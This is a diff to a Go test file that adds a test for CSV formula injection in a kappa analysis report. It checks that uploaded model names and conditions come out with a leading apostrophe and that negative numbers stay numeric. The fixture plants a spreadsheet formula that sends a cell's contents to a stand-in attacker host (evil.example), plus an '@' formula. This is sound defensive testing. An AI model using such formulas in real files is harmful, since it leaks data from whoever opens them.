@@ -1,11 +1,13 @@
 package analysis
 
 import (
+	"encoding/csv"
 	"encoding/json"
 	"math"
 	"math/rand/v2"
 	"reflect"
 	"slices"
+	"strconv"
 	"strings"
 	"testing"
 
@@ -948,5 +950,45 @@ func TestCSVHeaderFresh(t *testing.T) {
 		if n := strings.Count(l, ",") + 1; n != len(h) {
 			t.Errorf("row %d has %d fields, header %d: %s", i+1, n, len(h), l)
 		}
+	}
+}
+
+// TestReportCSVFormulaCells: model names and conditions are free text from
+// an upload; a spreadsheet must show them, not run them, while negative
+// kappas stay numbers.
+func TestReportCSVFormulaCells(t *testing.T) {
+	m := handMatrix()
+	for i := range m.Observers {
+		if m.Observers[i].Kind == Model {
+			m.Observers[i].Model = `=HYPERLINK("http://evil.example/?"&A1,"x")`
+			m.Observers[i].Condition = "@SUM(1+1)"
+		}
+	}
+	rep, err := Analyze(m, Options{Resamples: 100, Seed: 1})
+	if err != nil {
+		t.Fatal(err)
+	}
+	var out strings.Builder
+	if err := rep.WriteCSV(&out); err != nil {
+		t.Fatal(err)
+	}
+	recs, err := csv.NewReader(strings.NewReader(out.String())).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	negative := false
+	for _, rec := range recs[1:] {
+		if rec[2] == "model" && (rec[3] != `'=HYPERLINK("http://evil.example/?"&A1,"x")` || rec[4] != "'@SUM(1+1)") {
+			t.Errorf("model cells %q, %q: want a leading apostrophe", rec[3], rec[4])
+		}
+		if strings.HasPrefix(rec[7], "-") {
+			negative = true
+			if _, err := strconv.ParseFloat(rec[7], 64); err != nil {
+				t.Errorf("negative value %q is no longer a number", rec[7])
+			}
+		}
+	}
+	if !negative {
+		t.Error("the hand-worked data has a negative kappa; none found")
 	}
 }
